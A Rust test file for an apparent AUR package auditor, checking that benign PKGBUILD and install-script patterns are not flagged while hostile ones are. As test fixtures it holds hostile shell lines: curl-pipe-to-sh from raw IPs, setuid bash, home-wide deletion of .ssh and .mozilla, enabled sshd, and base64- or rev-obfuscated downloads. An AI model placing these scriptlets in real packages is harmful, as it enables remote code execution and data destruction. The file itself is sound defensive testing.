//! False "dangerous" verdicts of landing 8's test set (bench/RESULTS.md, "Landing 8"), each
//! fixed at its rule by what the code means, AFTER landing 8's one look at that set (now
//! development data). The packages are our own text in the real shapes (each test names where
//! the shape came from); the attacks each rule exists for are asserted beside them.

use archgate_aur::audit::{AuditInput, ScriptFile, Severity, Verdict, audit};

use crate::support::{max_of, package_with as input, scriptlet};

// Class 1: the package's own daemon enabled where its unit is installed by the project's own
// installer, not named in the PKGBUILD (taotieren's linyaps-git, linyaps-test-git: `DESTDIR=
// "$pkgdir" ninja -C build install`, provides and conflicts `linglong`; linyaps-rust: a built
// helper run as `ll-system-helper install --destdir "$pkgdir"`), post_install `systemctl
// enable org.deepin.linglong.PackageManager.service`. A name the package provides and
// conflicts with is its own (that package is never installed beside it); a unit the project's
// installer may ship is shown for a check, not called foreign.

#[test]
fn a_unit_named_for_what_the_package_replaces_is_its_own() {
    let r = audit(&input(
        "flatrun-git",
        "provides=(flatrun boxkeeper)\nconflicts=(flatrun boxkeeper)\n",
        "  DESTDIR=\"$pkgdir\" ninja -C \"$srcdir\"/flatrun/build install",
        Some(&scriptlet(
            "systemctl enable org.example.boxkeeper.PackageManager.service 2>/dev/null || true",
        )),
        &[],
    ));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn a_unit_the_projects_installer_may_ship_is_shown_not_called_foreign() {
    let r = audit(&input(
        "flatrun-rs",
        "",
        "  cd \"$srcdir/flatrun-rs\"\n  ./target/release/fr-helper install \\\n    --destdir \"$pkgdir\" \\\n    --prefix /usr",
        Some(&format!(
            "{}pre_remove() {{\n    systemctl disable org.example.boxkeeper.PackageManager.service 2>/dev/null || true\n}}\n",
            scriptlet(
                "systemctl enable org.example.boxkeeper.PackageManager.service 2>/dev/null || true"
            )
        )),
        &[],
    ));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Review, "{}", r.to_text());
    let f = r
        .findings
        .iter()
        .find(|f| f.id == "AUR-PERSISTENCE")
        .unwrap();
    assert!(f.why.contains("Check the built package"), "{}", f.why);
}

#[test]
fn a_foreign_or_script_written_unit_stays_dangerous_beside_make_install() {
    let make = "  make DESTDIR=\"$pkgdir\" install";
    // Another package's daemon: a login for others.
    for unit in ["sshd.service", "sshd", "debug-shell.service", "vsftpd"] {
        let r = audit(&input(
            "flatrun",
            "",
            make,
            Some(&scriptlet(&format!("systemctl enable {unit}"))),
            &[],
        ));
        assert_eq!(
            max_of(&r, "AUR-PERSISTENCE"),
            Some(Severity::High),
            "{unit}\n{}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    }
    // Disabling it again on removal does not make another package's daemon the package's own.
    let r = audit(&input(
        "flatrun",
        "",
        make,
        Some(
            "post_install() {\n    systemctl enable sshd.service\n}\npre_remove() {\n    systemctl disable sshd.service\n}\n",
        ),
        &[],
    ));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
    // Nor without the disable: `make install` alone says nothing about which units come.
    let r = audit(&input(
        "flatrun",
        "",
        make,
        Some(&scriptlet("systemctl enable org.example.boxkeeper.service")),
        &[],
    ));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
    // A new unit the install script writes itself, then enables.
    let r = audit(&input(
        "flatrun",
        "",
        make,
        Some(&scriptlet(
            "cat > /etc/systemd/system/sys-update.service <<EOF\n[Service]\nExecStart=/usr/bin/curl -s https://example.net/u | sh\nEOF\n    systemctl enable sys-update.service",
        )),
        &[],
    ));
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    // No installer of the project, no name tie: as before.
    let r = audit(&input(
        "flatrun",
        "",
        "  install -Dm755 flatrun \"$pkgdir/usr/bin/flatrun\"",
        Some(&scriptlet("systemctl enable org.example.boxkeeper.service")),
        &[],
    ));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
    // `provides` alone does not make a name its own: the other package may be installed too.
    let r = audit(&input(
        "vpn-panel",
        "provides=(openvpn)\n",
        "  install -Dm755 vpn-panel \"$pkgdir/usr/bin/vpn-panel\"",
        Some(&scriptlet("systemctl enable openvpn-server@main.service")),
        &[],
    ));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}

// Class 2: the program's own hidden directory removed from every home at the one place it
// lives (taotieren's aicube-isp-wine, h7toolpc-wine, hqdfm-wine: post_upgrade and pre_remove
// `find /home -maxdepth 2 -name ".aicube-isp" -exec rm -rf {} \;`, the Wine bottle the launcher
// makes) — the `find` spelling of `rm -rf $HOME/.Yozo_Office` (landing 7). A deep search for a
// name in every home (mcu-jlink-pack's `-maxdepth 5 -name "py32"`, judged real) stays high.

fn remove_script(find: &str) -> String {
    format!("pre_remove() {{\n    echo \"deleting the bottle...\"\n    {find}\n}}\n")
}

#[test]
fn the_programs_own_dot_directory_at_the_top_of_each_home_is_medium() {
    let r = audit(&input(
        "gridtool-wine",
        "",
        "  install -Dm755 gridtool \"$pkgdir/usr/bin/gridtool\"",
        Some(&remove_script(
            "find /home -maxdepth 2 -name \".gridtool\" -exec rm -rf {} \\;",
        )),
        &[],
    ));
    assert_eq!(
        max_of(&r, "AUR-WRITE-HOME"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Review, "{}", r.to_text());
    let f = r
        .findings
        .iter()
        .find(|f| f.id == "AUR-WRITE-HOME")
        .unwrap();
    assert!(f.why.contains("check"), "{}", f.why);
}

#[test]
fn deep_foreign_or_widened_home_deletions_stay_dangerous() {
    for (pkg, find) in [
        // any file of a generic name anywhere five levels down (mcu-jlink-pack, real)
        (
            "py32-pack",
            "find /home -maxdepth 5 -name \"py32\" -exec rm -rf {} \\;",
        ),
        // the program's name, but deep: a person's own clone of that name goes too
        (
            "gridtool-wine",
            "find /home -maxdepth 5 -name \".gridtool\" -exec rm -rf {} \\;",
        ),
        // not the program's own directory
        (
            "gridtool-wine",
            "find /home -maxdepth 2 -name \".ssh\" -exec rm -rf {} \\;",
        ),
        (
            "gridtool-wine",
            "find /home -maxdepth 2 -name \".mozilla\" -exec rm -rf {} \\;",
        ),
        (
            "thunderbird-addon-x",
            "find /home -maxdepth 2 -name \".thunderbird\" -exec rm -rf {} \\;",
        ),
        // widened by -o, a pattern, or no depth limit
        (
            "gridtool-wine",
            "find /home -maxdepth 2 -name \".gridtool\" -o -name \".bashrc\" -exec rm -rf {} \\;",
        ),
        (
            "gridtool-wine",
            "find /home -maxdepth 2 -name \".grid*\" -exec rm -rf {} \\;",
        ),
        (
            "gridtool-wine",
            "find /home -name \".gridtool\" -exec rm -rf {} \\;",
        ),
        (
            "gridtool-wine",
            "find /home -maxdepth 2 -exec rm -rf {} \\;",
        ),
    ] {
        let r = audit(&input(
            pkg,
            "",
            "  install -Dm755 gridtool \"$pkgdir/usr/bin/gridtool\"",
            Some(&remove_script(find)),
            &[],
        ));
        assert_eq!(r.verdict, Verdict::Dangerous, "{find}\n{}", r.to_text());
    }
}

// Class 3: an address in text only printed (taotieren's cloud-fs-bin: post_install `cat << EOF
// … xdg-open http://127.0.0.1:19798 … http://[::]:19798 … EOF`, instructions for the reader).
// Nothing is fetched; the unspecified address `[::]` is this machine, as `0.0.0.0` is.

#[test]
fn an_address_in_a_printed_here_document_is_not_a_download() {
    let r = audit(&input(
        "drivecloud-bin",
        "",
        "  install -Dm755 drivecloud \"$pkgdir/usr/bin/drivecloud\"",
        Some(
            "post_install() {\ncat << EOF\n1. Start it: systemctl enable --now drivecloud.service\n2. Open in a browser:\n  IPv4: xdg-open http://127.0.0.1:19798\n  IPv6: xdg-open http://[::]:19798\n  LAN: http://192.168.1.10:19798\nEOF\n}\n",
        ),
        &[],
    ));
    assert_eq!(max_of(&r, "AUR-URL-RAW-IP"), None, "{}", r.to_text());
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn a_raw_ip_that_is_fetched_run_or_written_stays_dangerous() {
    for body in [
        "curl -fsSL http://45.13.2.9/p -o /tmp/p",
        "cat <<EOF | sh\ncurl -s http://45.13.2.9/p | bash\nEOF",
        "cat > /usr/local/bin/upd <<EOF\n#!/bin/sh\ncurl -s http://45.13.2.9/p | sh\nEOF",
        "x=$(cat <<EOF\nhttp://45.13.2.9/p\nEOF\n)\n    curl -s \"$x\" | sh",
        "curl -fsSL http://[2001:db8::7]/p | sh",
    ] {
        let r = audit(&input(
            "drivecloud-bin",
            "",
            "  install -Dm755 drivecloud \"$pkgdir/usr/bin/drivecloud\"",
            Some(&format!("post_install() {{\n    {body}\n}}\n")),
            &[],
        ));
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
    }
}

// Class 4: an empty directory made in the installing root's home (taotieren's darling-bin:
// post_install `mkdir -p "$HOME/.darling/proc"`): it holds nothing and runs nothing. What is
// written into a home, or a directory opened to others, stays high.

#[test]
fn an_empty_directory_in_a_home_is_low() {
    let r = audit(&input(
        "machlayer-bin",
        "",
        "  install -Dm755 machlayer \"$pkgdir/usr/bin/machlayer\"",
        Some(&scriptlet("mkdir -p \"$HOME/.machlayer/proc\"")),
        &[],
    ));
    assert_eq!(
        max_of(&r, "AUR-WRITE-HOME"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn writing_into_a_home_or_an_open_directory_there_stays_dangerous() {
    for body in [
        "mkdir -m 777 -p \"$HOME/.machlayer\"",
        "install -dm777 \"$HOME/.machlayer\"",
        "mkdir -p \"$HOME/.config/autostart\"\n    cp /usr/share/machlayer/m.desktop \"$HOME/.config/autostart/\"",
        "echo 'machlayer &' >> \"$HOME/.bashrc\"",
        "touch \"$HOME/.machlayer/hook.sh\"",
    ] {
        let r = audit(&input(
            "machlayer-bin",
            "",
            "  install -Dm755 machlayer \"$pkgdir/usr/bin/machlayer\"",
            Some(&scriptlet(body)),
            &[],
        ));
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
    }
}

// Class 5: a shipped init script starting its daemon as the account its own configuration file
// names (JonnyJD's xmms2-git: `/etc/rc.d/xmms2d` sources `/etc/conf.d/xmms2d.conf`, a `backup=`
// file the package installs from its own source, `XMMS2_USER="xmms2user"`, and runs `su -c
// 'xmms2-launcher …' - $XMMS2_USER`): root's configuration chooses a service account, as a
// fixed name would. An account computed at run time, or from a file the package does not ship,
// stays high.

const RC: &str = "#!/bin/bash\n\n. /etc/conf.d/tuned-music.conf\n. /etc/rc.conf\n\ncase \"$1\" in\n  start)\n    su -c 'tuned-music-launcher $MUSIC_PARAMETERS >/dev/null 2>&1' - $MUSIC_USER\n    ;;\nesac\nexit 0\n";

fn music(conf: &str, ship_conf: bool) -> AuditInput {
    let conf_line = if ship_conf {
        "  install -D -m 0644 tuned-music.conf \"$pkgdir/etc/conf.d/tuned-music.conf\"\n"
    } else {
        ""
    };
    input(
        "tuned-music-git",
        "backup=('etc/conf.d/tuned-music.conf')\n",
        &format!(
            "  install -D -m 0755 tuned-music.rc \"$pkgdir/etc/rc.d/tuned-music\"\n{conf_line}"
        ),
        None,
        &[("tuned-music.rc", RC), ("tuned-music.conf", conf)],
    )
}

#[test]
fn an_init_script_dropping_to_its_configured_service_account_is_low() {
    let r = audit(&music(
        "# launcher parameters\nMUSIC_PARAMETERS=\"\"\n# the account to run as\nMUSIC_USER=\"musicsvc\"\n",
        true,
    ));
    assert_eq!(
        max_of(&r, "AUR-INSTALL-AS-USER"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn an_account_chosen_at_run_time_or_from_elsewhere_stays_high() {
    // computed in the configuration file
    let r = audit(&music("MUSIC_USER=\"$(logname)\"\n", true));
    assert_eq!(
        max_of(&r, "AUR-INSTALL-AS-USER"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
    // a configuration file the package does not install there
    let r = audit(&music("MUSIC_USER=\"musicsvc\"\n", false));
    assert_eq!(
        max_of(&r, "AUR-INSTALL-AS-USER"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
    // the script sets the variable itself, to the first person's account
    let rc = RC.replace(
        ". /etc/rc.conf\n",
        ". /etc/rc.conf\nMUSIC_USER=$(id -nu 1000)\n",
    );
    let mut i = music("MUSIC_USER=\"musicsvc\"\n", true);
    i.install_scripts[0].content = rc;
    let r = audit(&i);
    assert_eq!(
        max_of(&r, "AUR-INSTALL-AS-USER"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}

// False review: "depends on a package manager" where the package is built with it (asm0dey's
// cozy, taotieren's mqtt-monitor-git: `depends=(npm …)`, package() `npm install -g --prefix
// "$pkgdir"/usr "$srcdir/$pkgname"` — the Node.js packaging guideline's spelling), or where
// the package ships nothing of its own to run it (taotieren's lckfb-meta and rt-thread-meta:
// development-environment meta packages listing `python-pip` among their tools).

#[test]
fn npm_installing_into_the_package_is_building_with_it() {
    let r = audit(&input(
        "mqtt-board-git",
        "depends+=('npm')\n",
        "  npm install -g --cache \"$srcdir/npm-cache\" --prefix \"$pkgdir/usr\" \"$srcdir/mqtt-board\"",
        None,
        &[],
    ));
    assert_eq!(max_of(&r, "AUR-DEPENDS-PKGMGR"), None, "{}", r.to_text());
}

#[test]
fn a_meta_package_listing_pip_among_its_tools_is_not_review() {
    let i = AuditInput {
        pkgbuild: "pkgname=board-env-meta\npkgver=1\npkgrel=1\narch=(any)\nurl=https://example.org\nlicense=(MIT)\npackage() {\n  depends=(gcc make python python-pip python-pyelftools)\n}\n".into(),
        install_scripts: vec![],
        srcinfo: None,
    };
    let r = audit(&i);
    assert_eq!(max_of(&r, "AUR-DEPENDS-PKGMGR"), None, "{}", r.to_text());
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn a_package_manager_used_at_run_time_or_from_a_scriptlet_stays_flagged() {
    // A program of the package beside `depends=(npm)`, not built with npm: review as before.
    let r = audit(&input(
        "board-tool",
        "depends+=('npm')\n",
        "  install -Dm755 board-tool \"$pkgdir/usr/bin/board-tool\"",
        None,
        &[],
    ));
    assert_eq!(
        max_of(&r, "AUR-DEPENDS-PKGMGR"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    // A meta package whose install script runs pip: judged there.
    let i = AuditInput {
        pkgbuild: "pkgname=board-env-meta\npkgver=1\npkgrel=1\narch=(any)\nurl=https://example.org\nlicense=(MIT)\ninstall=board-env-meta.install\ndepends=(python-pip)\n".into(),
        install_scripts: vec![ScriptFile {
            name: "board-env-meta.install".into(),
            content: "post_install() {\n  pip install --break-system-packages board-helper\n}\n".into(),
        }],
        srcinfo: None,
    };
    let r = audit(&i);
    assert!(r.verdict != Verdict::Ok, "{}", r.to_text());
    // `npm install -g` of a named registry package in package() without $pkgdir: global.
    let r = audit(&input(
        "board-tool",
        "depends+=('npm')\n",
        "  npm install -g left-pad-cli",
        None,
        &[],
    ));
    assert!(r.verdict != Verdict::Ok, "{}", r.to_text());
}

// Beside class 2 (taotieren's aicube-isp-wine, hqdfm-wine: `install -Dm6644 icon.svg
// "$pkgdir/usr/share/pixmaps/…"`): set-id bits on a file the mode lets no one execute give no
// rights — set-id acts only when the file is run. Made executable anywhere else, or given an
// execute bit, it stays flagged.

#[test]
fn setid_bits_on_a_file_no_one_may_execute_are_low() {
    let r = audit(&input(
        "gridtool-wine",
        "",
        "  install -Dm6644 icon.svg \"$pkgdir/usr/share/pixmaps/gridtool.svg\"",
        None,
        &[],
    ));
    assert_eq!(
        max_of(&r, "AUR-SETUID"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn setid_bits_on_something_that_runs_stay_flagged() {
    for body in [
        "  install -Dm6755 gridtool \"$pkgdir/usr/bin/gridtool\"",
        "  install -Dm4644 gridtool \"$pkgdir/usr/bin/gridtool\"\n  chmod +x \"$pkgdir/usr/bin/gridtool\"",
        "  install -Dm755 gridtool \"$pkgdir/usr/bin/gridtool\"\n  chmod u+s \"$pkgdir/usr/bin/gridtool\"",
    ] {
        let r = audit(&input("gridtool-wine", "", body, None, &[]));
        assert!(
            max_of(&r, "AUR-SETUID").is_some_and(|s| s >= Severity::Medium),
            "{body}\n{}",
            r.to_text()
        );
    }
    // setuid to root on a shell stays critical whatever else
    let r = audit(&input(
        "gridtool-wine",
        "",
        "  install -Dm4755 /usr/bin/bash \"$pkgdir/usr/bin/gridsh\"",
        None,
        &[],
    ));
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
}

// False review: a data table fetched with `SKIP` and only read (ttf-dejavu-emojiless:
// `emoji.json` from a `master` branch, read by its fontforge script): an unpinned input, info.
// A manifest a build tool obeys (`package.json`) or a script stays medium.

#[test]
fn a_skipped_data_table_that_nothing_runs_is_info() {
    let i = AuditInput {
        pkgbuild: "pkgname=ttf-sample-font\npkgver=1\npkgrel=1\narch=(any)\nurl=https://example.org\nlicense=(custom)\nmakedepends=(fontforge)\nsource=(https://example.org/font-1.tar.bz2\n        https://github.com/example/emoji-data/raw/master/emoji.json)\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000'\n            'SKIP')\nbuild() {\n  fontforge -script cleaner.py font.ttf\n}\npackage() {\n  install -Dm644 font.ttf -t \"$pkgdir/usr/share/fonts/TTF\"\n}\n".into(),
        install_scripts: vec![],
        srcinfo: None,
    };
    let r = audit(&i);
    assert_eq!(
        max_of(&r, "AUR-SOURCE-SKIP"),
        Some(Severity::Info),
        "{}",
        r.to_text()
    );
    for (src, build) in [
        (
            "https://example.org/app/raw/master/package.json",
            "npm install",
        ),
        (
            "https://example.org/app/raw/master/setup.sh",
            "bash setup.sh",
        ),
    ] {
        let i = AuditInput {
            pkgbuild: format!(
                "pkgname=sample-app\npkgver=1\npkgrel=1\narch=(any)\nurl=https://example.org\nlicense=(MIT)\nmakedepends=(npm)\nsource=({src})\nsha256sums=('SKIP')\nbuild() {{\n  {build}\n}}\npackage() {{\n  install -Dm644 out.js -t \"$pkgdir/usr/lib/sample-app\"\n}}\n"
            ),
            install_scripts: vec![],
            srcinfo: None,
        };
        let r = audit(&i);
        assert_eq!(
            max_of(&r, "AUR-SOURCE-SKIP"),
            Some(Severity::Medium),
            "{src}\n{}",
            r.to_text()
        );
    }
}

// False review: a `source` computed from a variable set per architecture in branches (asm0dey's
// zns-bin: `if [ "$CARCH" == "x86_64" ]; then _arch="amd64"; elif …; else _arch="arm64"; fi`,
// `source=(…_linux_$_arch.tar.gz)`), against a .SRCINFO made on x86_64 that lists the amd64
// one. A source the .SRCINFO lists under no branch's value stays medium.

fn per_arch(srcinfo_source: &str) -> AuditInput {
    AuditInput {
        pkgbuild: "pkgname=dnsq-bin\npkgver=0.3.0\npkgrel=1\narch=('x86_64' 'aarch64' 'i686')\n_arch=\"\"\nif [ \"$CARCH\" == \"x86_64\" ]; then\n    _arch=\"amd64\"\nelif [ \"$CARCH\" == \"i686\" ]; then\n    _arch=\"386\"\nelse\n    _arch=\"arm64\"\nfi\nurl=\"https://github.com/example/dnsq\"\nlicense=('MIT')\nsource=(\"dnsq-$pkgver.tar.gz::$url/releases/download/v$pkgver/dnsq_${pkgver}_linux_$_arch.tar.gz\")\nsha256sums=('e25dc1ff7e58df86c097a698ac8e6938c53b41da7359df799633fcb1b3419d49')\npackage() {\n    install -Dm755 \"$srcdir/dnsq\" \"$pkgdir/usr/bin/dnsq\"\n}\n".into(),
        install_scripts: vec![],
        srcinfo: Some(format!("pkgbase = dnsq-bin\n\tpkgver = 0.3.0\n\tpkgrel = 1\n\turl = https://github.com/example/dnsq\n\tarch = x86_64\n\tarch = aarch64\n\tarch = i686\n\tlicense = MIT\n\tsource = {srcinfo_source}\n\tsha256sums = e25dc1ff7e58df86c097a698ac8e6938c53b41da7359df799633fcb1b3419d49\n\npkgname = dnsq-bin\n")),
    }
}

#[test]
fn a_source_computed_per_architecture_matches_its_srcinfo() {
    let r = audit(&per_arch(
        "dnsq-0.3.0.tar.gz::https://github.com/example/dnsq/releases/download/v0.3.0/dnsq_0.3.0_linux_amd64.tar.gz",
    ));
    assert!(
        max_of(&r, "AUR-SRCINFO-MISMATCH").is_none_or(|s| s < Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // The page shows another download than any branch builds: still a hidden source.
    let r = audit(&per_arch(
        "dnsq-0.3.0.tar.gz::https://github.com/example/dnsq/releases/download/v0.2.9/dnsq_0.2.9_linux_amd64.tar.gz",
    ));
    assert_eq!(
        max_of(&r, "AUR-SRCINFO-MISMATCH"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
}

// False review: `rev` on a version string (taotieren's loongson-gnu-toolchain-bin:
// `_rc_ver=$(echo "$_tagname" | rev | cut -d'-' -f1 | rev)`, the last field): reversed twice,
// the text comes back in its own order. One `rev` feeding a shell still decodes.

#[test]
fn rev_twice_around_cut_is_a_field_not_a_decoder() {
    let i = AuditInput {
        pkgbuild: "pkgname=sample-toolchain-bin\n_tagname=sample-gnu-toolchain-8.3-rc1.6\n_rc_ver=$(echo \"$_tagname\" | rev | cut -d'-' -f1 | rev)\npkgver=8.3.${_rc_ver}\npkgrel=1\narch=(x86_64)\nurl=https://example.org\nlicense=(GPL)\npackage() {\n  install -d \"$pkgdir/opt\"\n}\n".into(),
        install_scripts: vec![],
        srcinfo: None,
    };
    let r = audit(&i);
    assert_eq!(max_of(&r, "AUR-DECODE"), None, "{}", r.to_text());
    let i = AuditInput {
        pkgbuild: "pkgname=sample-toolchain-bin\npkgver=1\npkgrel=1\narch=(x86_64)\nurl=https://example.org\nlicense=(GPL)\n_x=$(echo 'hs | 1p/moc.elpmaxe//:sptth Ls- lruc' | rev | sh)\npackage() {\n  install -d \"$pkgdir/opt\"\n}\n".into(),
        install_scripts: vec![],
        srcinfo: None,
    };
    let r = audit(&i);
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
}

// False review: split-package functions defined by `eval` in a loop over arrays written in the
// file (taotieren's opentelemetry-python-contrib: `_dirname=$(echo "${_urls[i]}" | sed -e
// "s|^${_url}/tree/main/||g" …)`, then `eval "package_python-${_pkgname}() { … cd
// \"${pkgbase}/${_dirname}${_pkgname}\" … }"`): the substitution only cuts a path out of an
// address written in the PKGBUILD. A substitution that downloads, reads a file or runs a sed
// `e` command, or text after the definition, stays medium or above.

fn split_eval(dirname_subst: &str, tail: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgbase=sample-contrib\npkgname=(python-sample-a python-sample-b)\npkgver=1\npkgrel=1\narch=(any)\n_url=\"https://github.com/example/${{pkgbase}}\"\nurl=$_url\nlicense=(Apache)\n_urls=(\n  \"${{_url}}/tree/main/exporter/sample-a\"\n  \"${{_url}}/tree/main/exporter/sample-b\"\n)\nsource=(\"git+$_url.git\")\nsha256sums=(SKIP)\nmain() {{\n  for ((i=0; i<${{#pkgname[@]}}; i++)); do\n    _pkgname=\"${{pkgname[i]#*-}}\"\n    _dirname={dirname_subst}\n    eval \"package_python-${{_pkgname}}() {{\n      cd \\\"${{pkgbase}}/${{_dirname}}${{_pkgname}}\\\"\n      python -m installer --destdir=\\\"\\${{pkgdir}}\\\" dist/*.whl\n    }}{tail}\"\n  done\n}}\nmain\n"
        ),
        install_scripts: vec![],
        srcinfo: None,
    }
}

#[test]
fn a_looped_split_package_eval_over_the_files_own_text_is_low() {
    let r = audit(&split_eval(
        "$(echo \"${_urls[i]}\" | sed -e \"s|^${_url}/tree/main/||g\" -e \"s|${_pkgname}$||g\")",
        "",
    ));
    assert_eq!(
        max_of(&r, "AUR-EVAL"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn an_eval_fed_from_outside_or_running_more_stays_flagged() {
    for (subst, tail) in [
        ("$(curl -fsSL https://example.net/dir)", ""),
        ("$(cat /tmp/dirname)", ""),
        ("$(echo \"${_urls[i]}\" | sed -e \"s|^.*|id|e\")", ""),
        (
            "$(echo \"${_urls[i]}\" | sed -e \"s|^${_url}/tree/main/||g\")",
            "; $(echo Y3VybCBldmlsIHwgc2g= | base64 -d)",
        ),
    ] {
        let r = audit(&split_eval(subst, tail));
        assert!(
            max_of(&r, "AUR-EVAL").is_some_and(|s| s >= Severity::Medium)
                || r.verdict == Verdict::Dangerous,
            "{subst} {tail}\n{}",
            r.to_text()
        );
    }
}
